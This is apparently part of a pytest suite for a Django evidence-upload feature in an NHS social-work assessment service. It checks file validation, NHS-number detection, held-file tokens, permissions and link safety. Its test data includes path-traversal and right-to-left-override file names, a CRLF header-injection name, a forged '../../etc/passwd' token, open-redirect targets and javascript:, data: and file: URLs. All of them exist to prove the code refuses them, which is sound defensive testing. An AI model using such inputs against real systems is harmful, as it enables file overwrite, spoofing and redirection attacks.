    ("the words of active content on its page", make_pdf("Do not use /JavaScript, /Launch or /EmbeddedFiles")),
    ("objects in a compressed object stream", make_pdf_with_object_stream(b"<< /Title (Minutes) >>", catalog=b"")),
]


@pytest.mark.parametrize("content", [case[1] for case in GOOD_PDFS], ids=[case[0] for case in GOOD_PDFS])
def test_plain_pdf_with_links_forms_or_object_streams_is_accepted(content):
    """Links, form fields, object streams and page text that names active content do not make a PDF active."""
    assert evidence.check_upload(SimpleUploadedFile("minutes.pdf", content)).file_type.code == "pdf"


@pytest.mark.parametrize(("limit", "value"), [("PDF_MAX_OBJECTS", 3), ("PDF_CHECK_SECONDS", -1)])
def test_pdf_too_large_to_check_in_time_is_refused(monkeypatch, limit, value):
    """A PDF with too many objects to check, or that takes too long to check, is refused rather than let through."""
    monkeypatch.setattr(evidence, limit, value)

    with pytest.raises(ValidationError, match="The selected file is too complex to check"):
        evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))


def test_file_over_the_size_limit_is_refused(client_for, lead, trust, storage_root, settings):
    """A file over EVIDENCE_MAX_UPLOAD_BYTES is refused with the limit in the message, and nothing is stored."""
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 1024
    response = upload(client_for(lead), trust, "figures.csv", CSV * 100)

    assert "The selected file must be smaller than 1 KB" in page_text(response)
    assert EvidenceVersion.objects.count() == 0
    assert stored_files(storage_root) == []


def test_default_size_limit_is_twenty_megabytes_in_the_message(settings):
    """With the default limit the message reads "smaller than 20 MB"."""
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 20 * 1024 * 1024
    with pytest.raises(ValidationError, match="The selected file must be smaller than 20 MB"):
        evidence.check_upload(SimpleUploadedFile("big.csv", b"x" * (20 * 1024 * 1024 + 1)))


def test_missing_file_is_asked_for(client_for, lead, trust):
    """Submitting without a file asks for one and keeps what was typed."""
    response = client_for(lead).post(reverse("evidence-upload", args=[trust.ods_code]), details())

    assert "Select a file to upload" in page_text(response)
    assert 'value="Supervision audit 2026"' in response.content.decode()
    assert EvidenceItem.objects.count() == 0


def test_patient_data_confirmation_is_required(client_for, lead, trust, storage_root):
    """Without the confirmation nothing is stored in the library, and the file is held for the next attempt."""
    response = upload(client_for(lead), trust, "minutes.pdf", make_pdf(), confirm_no_patient_data=None)

    assert "Confirm the document contains no patient-identifiable information" in page_text(response)
    assert EvidenceVersion.objects.count() == 0
    assert [path.parent.parent.name for path in stored_files(storage_root)] == ["held"]


# ---- file names -----------------------------------------------------------------------------------

HOSTILE_NAMES = [
    ("parent directories with backslashes", "..\\..\\windows\\evil.pdf"),
    ("absolute path", "/etc/cron.d/evil.pdf"),
    ("relative path", "../../evil.pdf"),
    ("right-to-left override hiding .exe", "minutes\u202efdp.exe"),
    ("right-to-left override", "report\u202e.pdf"),
    ("zero-width space", "minutes\u200b.pdf"),
    ("bell character", "minutes\x07.pdf"),
    ("newline", "minutes\r\nContent-Type: text/html.pdf"),
    ("only dots", ".."),
]


@pytest.mark.parametrize("name", [case[1] for case in HOSTILE_NAMES], ids=[case[0] for case in HOSTILE_NAMES])
def test_file_name_with_path_separators_or_control_characters_is_refused(lead, trust, storage_root, name):
    """A name that reaches us with a path separator, control or bidi character is refused and nothing is stored."""
    upload_file = SimpleUploadedFile("minutes.pdf", make_pdf())
    upload_file._name = name  # as if it arrived without Django's own clean-up of browser file names
    form = EvidenceUploadForm(
        data={
            **details(),
            "evidence_date_day": "31",
        },
        files={"file": upload_file},
        trust=trust,
        user=lead,
    )

    assert not form.is_valid()
    assert form.errors["file"] == [evidence.MESSAGES["unsafe_name"]]
    form.keep_file_for_retry()
    assert stored_files(storage_root) == []
    assert EvidenceVersion.objects.count() == 0


def test_browser_file_names_are_stripped_of_paths_before_they_are_kept(client_for, lead, trust):
    """Django drops path parts and invisible characters from multipart names: what we keep is only the base name."""
    upload(client_for(lead), trust, "..\\..\\board\u202e minutes.pdf", make_pdf())

    version = EvidenceVersion.objects.get()
    assert version.original_name == "board minutes.pdf"
    assert "board" not in version.file.name


def test_long_file_name_is_shortened_keeping_its_extension():
    """Names longer than 200 characters are cut to 200, ending in the original extension."""
    checked = evidence.check_upload(SimpleUploadedFile("a" * 240 + ".pdf", make_pdf()))

    assert len(checked.original_name) == 200
    assert checked.original_name.endswith("aaa.pdf")


def test_file_name_without_extension_gets_the_detected_one():
    """A PDF called "minutes" is kept as "minutes.pdf", so it opens correctly when downloaded."""
    assert evidence.check_upload(SimpleUploadedFile("minutes", make_pdf())).original_name == "minutes.pdf"


# ---- NHS numbers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("digits", "valid"),
    [
        ("9434765919", True),
        ("9434765918", False),
        ("4010232137", True),
        ("4010232138", False),
        ("1111111111", False),  # passes the arithmetic, but one repeated digit is never issued
        ("0000000000", False),
        ("943476591", False),
    ],
)
def test_nhs_number_modulus_11_check(digits, valid):
    """Modulus 11 with weights 10 to 2 decides whether ten digits could be an NHS number."""
    assert evidence.is_valid_nhs_number(digits) is valid


def test_nhs_numbers_are_found_with_spaces_or_hyphens_but_not_inside_longer_numbers():
    """3-3-4 groups with spaces or hyphens are found once each; digits inside longer numbers are not."""
    text = "a 943 476 5919, b 943-476-5919, c 9434765919, d 19434765919, e 943 476-5919, f 9434765918"

    assert evidence.find_nhs_numbers(text) == ["9434765919"]
    assert evidence.find_nhs_numbers("phone 0113 2345678, ref 12345678901234") == []


def test_nhs_number_is_masked_in_the_warning():
    """The warning shows only the first three and last two digits."""
    assert evidence.mask_nhs_number("9434765919") == "943 *** **19"
    assert "such as 943 *** **19" in evidence.nhs_number_warning(["9434765919", "4010232137"])
    assert "2 numbers that look like an NHS number" in evidence.nhs_number_warning(["9434765919", "4010232137"])


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("list.csv", lambda n: f"Ref,Value\r\nA,{n[:3]} {n[3:6]} {n[6:]}\r\n".encode()),
        ("letter.docx", lambda n: make_docx("Dear colleague", runs=[n[:3], n[3:]])),
        ("list.xlsx", lambda n: make_xlsx("Ref", n)),
        ("slides.pptx", lambda n: make_pptx(f"Case {n}")),
        ("letter.odt", lambda n: make_opendocument(text=f"Patient {n}")),
        ("letter.pdf", lambda n: make_pdf(f"NHS number {n}")),
    ],
    ids=["csv", "docx split across runs", "xlsx cell", "pptx", "odt", "pdf"],
)
def test_nhs_number_in_a_text_bearing_file_is_flagged(name, build):
    """A valid NHS number in any text-bearing format is found; an invalid one is not."""
    assert evidence.check_upload(SimpleUploadedFile(name, build(VALID_NHS_NUMBER))).nhs_numbers == (VALID_NHS_NUMBER,)
    assert evidence.check_upload(SimpleUploadedFile(name, build(INVALID_NHS_NUMBER))).nhs_numbers == ()


def test_spreadsheet_cells_do_not_run_together_into_an_nhs_number():
    """Two neighbouring cells (943476 and 5919) are not read as one ten-digit number."""
    assert evidence.check_upload(SimpleUploadedFile("list.xlsx", make_xlsx("943476", "5919"))).nhs_numbers == ()


def test_nhs_number_upload_is_flagged_then_confirmed_without_choosing_the_file_again(
    client_for, lead, trust, storage_root
):
    """A look-alike is flagged with a masked example; ticking "These are not NHS numbers" saves the held file."""
    client = client_for(lead)
    content = f"Staff number,Team\r\n{VALID_NHS_NUMBER},AMHP\r\n".encode()

    first = upload(client, trust, "staff.csv", content, title="AMHP rota")

    text = page_text(first)
    assert first.status_code == 200
    assert "The selected file has 1 number that looks like an NHS number, such as 943 *** **19" in text
    assert "These are not NHS numbers" in text
    assert "You have chosen staff.csv" in text
    assert VALID_NHS_NUMBER not in first.content.decode()
    assert EvidenceItem.objects.count() == 0
    assert [path.parent.parent.name for path in stored_files(storage_root)] == ["held"]
    assert 'value="AMHP rota"' in first.content.decode()

    second = client.post(
        reverse("evidence-upload", args=[trust.ods_code]),
        {**details(title="AMHP rota"), "upload_token": hidden_token(first), "not_nhs_numbers": "on"},
    )

    assert second.status_code == 302
    version = EvidenceVersion.objects.get()
    assert version.possible_nhs_numbers == 1
    assert version.original_name == "staff.csv"
    assert version.item.title == "AMHP rota"
    assert [path.read_bytes() for path in stored_files(storage_root)] == [content]
    assert AuditEvent.objects.get(action="evidence_uploaded").changes["possible_nhs_numbers_confirmed"] == [None, 1]


def test_flagged_upload_is_still_refused_until_confirmed(client_for, lead, trust):
    """Sending the held file again without ticking the box shows the warning again and stores nothing."""
    client = client_for(lead)
    first = upload(client, trust, "staff.csv", f"{VALID_NHS_NUMBER}\r\n".encode())

    second = client.post(
        reverse("evidence-upload", args=[trust.ods_code]), {**details(), "upload_token": hidden_token(first)}
    )

    assert "such as 943 *** **19" in page_text(second)
    assert EvidenceItem.objects.count() == 0


def test_ticking_not_nhs_numbers_does_not_cover_a_file_nobody_was_warned_about(client_for, lead, trust):
    """The confirmation only counts for a held file the uploader was shown the warning for."""
    response = upload(client_for(lead), trust, "staff.csv", f"{VALID_NHS_NUMBER}\r\n".encode(), not_nhs_numbers="on")

    assert "such as 943 *** **19" in page_text(response)
    assert EvidenceItem.objects.count() == 0


def test_invalid_nhs_number_look_alike_is_not_flagged(client_for, lead, trust):
    """Ten digits that fail the Modulus 11 check are stored without a warning."""
    response = upload(client_for(lead), trust, "staff.csv", f"{INVALID_NHS_NUMBER}\r\n".encode())

    assert response.status_code == 302
    assert EvidenceVersion.objects.get().possible_nhs_numbers == 0


def test_choosing_another_file_replaces_the_held_one(client_for, lead, trust, storage_root):
    """A new file sent with a held-file token replaces it: the held copy is removed."""
    client = client_for(lead)
    first = upload(client, trust, "staff.csv", f"{VALID_NHS_NUMBER}\r\n".encode())
    clean = b"Team,Headcount\r\nAMHP,12\r\n"

    second = client.post(
        reverse("evidence-upload", args=[trust.ods_code]),
        {**details(), "upload_token": hidden_token(first), "file": SimpleUploadedFile("clean.csv", clean)},
    )

    assert second.status_code == 302
    assert EvidenceVersion.objects.get().original_name == "clean.csv"
    assert [path.read_bytes() for path in stored_files(storage_root)] == [clean]


def test_held_file_token_cannot_be_used_by_someone_else(client_for, lead, contributor, trust):
    """A held-file token signed for one person does not work for another, even at the same trust."""
    first = upload(client_for(lead), trust, "minutes.pdf", make_pdf(), title="")
    token = hidden_token(first)

    response = client_for(contributor).post(
        reverse("evidence-upload", args=[trust.ods_code]), {**details(), "upload_token": token}
    )

    assert "The file you chose earlier is no longer available. Select the file again" in page_text(response)
    assert EvidenceItem.objects.count() == 0


def test_tampered_held_file_token_is_refused(client_for, lead, trust):
    """A forged token is treated as no file, with a clear message."""
    response = client_for(lead).post(
        reverse("evidence-upload", args=[trust.ods_code]),
        {**details(), "upload_token": "held/1/../../etc/passwd:forged"},
    )

    assert "The file you chose earlier is no longer available. Select the file again" in page_text(response)
    assert EvidenceItem.objects.count() == 0


def test_expired_held_files_are_purged(lead, trust, storage_root, monkeypatch):
    """Held files older than the hold time are deleted the next time a file is held."""
    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
    evidence.hold_upload(checked, user=lead, trust=trust)
    monkeypatch.setattr(evidence, "HOLD_MAX_AGE", -1)

    assert evidence.purge_expired_holds() == 1
    assert stored_files(storage_root) == []


def hold_expired_file(trust, user, storage_root) -> Path:
    """A file held for ``user`` whose hold time has passed."""
    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
    evidence.hold_upload(checked, user=user, trust=trust)
    [held] = stored_files(storage_root / "held")
    expired = time.time() - evidence.HOLD_MAX_AGE - 60
    os.utime(held, (expired, expired))
    return held


def test_expired_held_file_is_removed_by_the_next_upload_that_holds_nothing(client_for, lead, trust, storage_root):
    """An upload that is stored straight away, holding nothing, still removes a held file past its time."""
    held = hold_expired_file(trust, lead, storage_root)

    response = upload(client_for(lead), trust, "figures.csv", CSV)

    assert response.status_code == 302
    assert not held.exists()
    assert [path.read_bytes() for path in stored_files(storage_root)] == [CSV]


@pytest.mark.parametrize("page", ["evidence-upload", "evidence-add-link", "evidence-new-version"])
def test_expired_held_file_is_removed_when_any_add_evidence_page_is_opened(
    client_for, contributor, lead, trust, storage_root, page
):
    """Opening the upload, add-link or new-version page removes held files past their time, whoever held them."""
    item = add_document(trust, lead)
    held = hold_expired_file(trust, lead, storage_root)
    args = [trust.ods_code, item.pk] if page == "evidence-new-version" else [trust.ods_code]

    response = client_for(contributor).get(reverse(page, args=args))

    assert response.status_code == 200
    assert not held.exists()
    assert len(stored_files(storage_root)) == 1  # the library's own document stays


def test_held_file_within_its_time_is_kept_by_the_purge(lead, trust, storage_root):
    """The purge removes only expired held files."""
    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
    evidence.hold_upload(checked, user=lead, trust=trust)

    assert evidence.purge_expired_holds() == 0
    assert len(stored_files(storage_root / "held")) == 1


def test_upload_page_works_when_the_purge_fails(client_for, lead, trust, monkeypatch):
    """A storage error while purging held files is logged, never shown to the person uploading."""

    def broken_purge():
        raise OSError("storage unavailable")

    monkeypatch.setattr(evidence, "purge_expired_holds", broken_purge)

    assert upload(client_for(lead), trust, "figures.csv", CSV).status_code == 302


# ---- other fields keep the file ---------------------------------------------------------------------


def test_missing_title_keeps_the_file_and_everything_typed(client_for, lead, trust, storage_root):
    """A validation error elsewhere keeps the chosen file (held) and the typed fields; the next submit saves it."""
    client = client_for(lead)
    content = make_pdf()
    first = upload(client, trust, "minutes.pdf", content, title="")

    assert "Enter a title" in page_text(first)
    assert "You have chosen minutes.pdf" in page_text(first)
    assert "Upload a different file (optional)" in page_text(first)
    assert 'value="Principal social worker"' in first.content.decode()

    second = client.post(
        reverse("evidence-upload", args=[trust.ods_code]), {**details(), "upload_token": hidden_token(first)}
    )

    assert second.status_code == 302
    assert EvidenceVersion.objects.get().sha256 == hashlib.sha256(content).hexdigest()
    assert [path.read_bytes() for path in stored_files(storage_root)] == [content]


@pytest.mark.parametrize(
    ("day", "month", "year", "message"),
    [
        ("", "", "", "Enter the date of the document"),
        ("31", "", "2026", "Date of the document must include a month"),
        ("", "", "2026", "Date of the document must include a day and a month"),
        ("31", "2", "2026", "Date of the document must be a real date"),
        ("3l", "3", "2026", "Date of the document must be a real date"),
        ("1", "3", "26", "Year must include 4 numbers"),
        ("1", "1", "2999", "Date of the document must be today or in the past"),
    ],
)
def test_date_of_the_document_errors_are_specific_and_keep_what_was_typed(
    client_for, lead, trust, day, month, year, message
):
    """Each date problem has its own NHS-style message; the typed day, month and year are shown again."""
    response = upload(
        client_for(lead),
        trust,
        "minutes.pdf",
        make_pdf(),
        evidence_date_day=day,
        evidence_date_month=month,
        evidence_date_year=year,
    )

    assert message in page_text(response)
    html = response.content.decode()
    for name, value in (("day", day), ("month", month), ("year", year)):
        if value:
            assert re.search(
                rf'name="evidence_date_{name}"[^>]*value="{value}"|value="{value}"[^>]*name="evidence_date_{name}"',
                html,
            )
    assert EvidenceItem.objects.count() == 0


# ---- who may upload -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("person", "status"),
    [
        ("lead", 200),
        ("contributor", 200),
        ("executive", 403),
        ("board_reader", 403),
        ("ics_lead", 403),
        ("outsider", 404),
    ],
)
def test_only_lead_and_contributors_may_upload(client_for, request, trust, person, status):
    """Lead and contributors see the upload page; executive, board reader and ICS lead get 403, an outsider 404."""
    response = client_for(request.getfixturevalue(person)).get(reverse("evidence-upload", args=[trust.ods_code]))

    assert response.status_code == status


def test_executive_post_is_refused_and_stores_nothing(client_for, executive, trust, storage_root):
    """An executive may read and download evidence but not upload it."""
    response = upload(client_for(executive), trust, "minutes.pdf", make_pdf())

    assert response.status_code == 403
    assert EvidenceItem.objects.count() == 0
    assert stored_files(storage_root) == []


def test_signed_out_person_is_sent_to_sign_in(client, trust):
    """The upload page needs a signed-in person."""
    response = client.get(reverse("evidence-upload", args=[trust.ods_code]))

    assert response.status_code == 302
    assert response.url.startswith(reverse("sign-in"))


def test_upload_page_refuses_other_methods(client_for, lead, trust):
    """PUT and DELETE get 405."""
    client = client_for(lead)
    url = reverse("evidence-upload", args=[trust.ods_code])

    assert client.put(url).status_code == 405
    assert client.delete(url).status_code == 405


# ---- adding evidence for a response -----------------------------------------------------------------


def test_upload_from_a_response_links_the_new_item_and_returns_to_the_response(client_for, lead, trust, assessment):
    """?next_response=<pk>/<code> links the new document to that requirement and returns to its page."""
    response = upload(client_for(lead), trust, "minutes.pdf", make_pdf(), query=f"?next_response={assessment.pk}/R3")

    assert response.status_code == 302
    assert response.url == reverse("response-edit", args=[assessment.pk, "R3"])
    link = ResponseEvidence.objects.select_related("response__requirement").get()
    assert link.response.requirement.code == "R3"
    assert AssessmentEvent.objects.filter(action=AuditAction.EVIDENCE_LINKED, subject="R3").exists()


def test_next_response_survives_a_failed_upload(client_for, lead, trust, assessment):
    """After a refused file the form still posts back with the response to link to."""
    response = upload(client_for(lead), trust, "x.exe", b"MZ", query=f"?next_response={assessment.pk}/R3")

    assert f'action="/trusts/{trust.ods_code}/evidence/upload/?next_response={assessment.pk}%2FR3"' in (
        response.content.decode()
    )


@pytest.mark.parametrize("next_response", ["https://evil.example/", "//evil.example", "1/R3/../../x", "abc"])
def test_next_response_that_is_not_a_response_is_ignored(client_for, lead, trust, next_response):
    """Anything but <pk>/<code> of an editable response is ignored: no open redirect, back to the library item."""
    response = upload(client_for(lead), trust, "minutes.pdf", make_pdf(), query=f"?next_response={next_response}")

    item = EvidenceItem.objects.get()
    assert response.url == reverse("evidence-detail", args=[trust.ods_code, item.pk])
    assert ResponseEvidence.objects.count() == 0


def test_next_response_of_another_trust_is_ignored(
    client_for, outsider, other_trust, trust, lead, cycle, published_framework
):
    """A response of another trust's assessment is never linked to this trust's new item."""
    from assessments import services

    theirs = services.start_assessment(trust=other_trust, cycle=cycle, started_by=outsider, carry_forward=False)

    response = upload(client_for(lead), trust, "minutes.pdf", make_pdf(), query=f"?next_response={theirs.pk}/R3")

    assert response.status_code == 302
    assert ResponseEvidence.objects.count() == 0


def test_unassigned_contributor_cannot_link_through_next_response(client_for, contributor, trust, assessment):
    """A contributor's upload is not linked to a requirement that is not theirs."""
    upload(client_for(contributor), trust, "minutes.pdf", make_pdf(), query=f"?next_response={assessment.pk}/R3")

    assert EvidenceItem.objects.count() == 1
    assert ResponseEvidence.objects.count() == 0


# ---- the services -------------------------------------------------------------------------------------


def test_service_refuses_an_executive(executive, trust):
    """create_file_evidence checks the role itself, whatever the view did."""
    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))

    with pytest.raises(evidence.EvidenceError, match="social work lead and contributors"):
        evidence.create_file_evidence(
            trust=trust,
            created_by=executive,
            title="Minutes",
            evidence_date=datetime.date(2026, 1, 1),
            owner="Board secretary",
            upload=checked,
            confirmed_no_patient_data=True,
        )
    assert EvidenceItem.objects.count() == 0


def test_service_refuses_unconfirmed_nhs_numbers(lead, trust, storage_root):
    """A file with NHS-number look-alikes is only stored once the uploader has confirmed them."""
    checked = evidence.check_upload(SimpleUploadedFile("staff.csv", f"{VALID_NHS_NUMBER}\r\n".encode()))

    with pytest.raises(evidence.EvidenceError, match="943 \\*\\*\\* \\*\\*19"):
        evidence.create_file_evidence(
            trust=trust,
            created_by=lead,
            title="Staff",
            evidence_date=datetime.date(2026, 1, 1),
            owner="Workforce",
            upload=checked,
            confirmed_no_patient_data=True,
        )
    assert EvidenceItem.objects.count() == 0
    assert stored_files(storage_root) == []


def test_versions_are_numbered_and_earlier_ones_kept(lead, trust, storage_root):
    """add_evidence_version adds version 2 beside version 1 and audits it."""
    item = add_document(trust, lead)
    checked = evidence.check_upload(SimpleUploadedFile("policy-v2.docx", make_docx("Revised policy")))

    version = evidence.add_evidence_version(item=item, uploaded_by=lead, upload=checked, confirmed_no_patient_data=True)

    assert version.number == 2
    assert list(item.versions.order_by("number").values_list("number", "original_name")) == [
        (1, "policy.pdf"),
        (2, "policy-v2.docx"),
    ]
    assert len(stored_files(storage_root)) == 2
    assert AuditEvent.objects.filter(trust=trust, action="evidence_version_added").count() == 1


def test_links_have_no_versions(lead, trust):
    """A new version cannot be added to a link."""
    item = evidence.create_link_evidence(
        trust=trust,
        created_by=lead,
        title="Board papers",
        evidence_date=datetime.date(2026, 1, 1),
        owner="Trust secretary",
        url="https://www.example.nhs.uk/board",
        confirmed_no_patient_data=True,
    )
    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))

    with pytest.raises(evidence.EvidenceError, match="Only documents have versions"):
        evidence.add_evidence_version(item=item, uploaded_by=lead, upload=checked, confirmed_no_patient_data=True)


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd", "ftp://x.nhs.uk/a"]
)
def test_link_service_refuses_other_schemes(lead, trust, url):
    """create_link_evidence itself refuses anything but http(s)."""
    with pytest.raises(evidence.EvidenceError, match="must start with https://"):
        evidence.create_link_evidence(
            trust=trust,
            created_by=lead,
            title="Bad",
            evidence_date=datetime.date(2026, 1, 1),
            owner="Someone",
            url=url,
            confirmed_no_patient_data=True,
        )
    assert EvidenceItem.objects.count() == 0


def test_the_scheduled_purge_command_deletes_expired_holds(lead, trust, storage_root, monkeypatch):
    """``manage.py purge_held_uploads``, for the hourly job in docs/deployment.md."""
    from io import StringIO

    from django.core.management import call_command

    checked = evidence.check_upload(SimpleUploadedFile("minutes.pdf", make_pdf()))
    evidence.hold_upload(checked, user=lead, trust=trust)
    out = StringIO()
    call_command("purge_held_uploads", stdout=out)
    assert "Deleted 0 held files" in out.getvalue()
    assert len(stored_files(storage_root)) == 1

    monkeypatch.setattr(evidence, "HOLD_MAX_AGE", -1)
    call_command("purge_held_uploads", stdout=out)
    assert "Deleted 1 held file past" in out.getvalue()
    assert stored_files(storage_root) == []
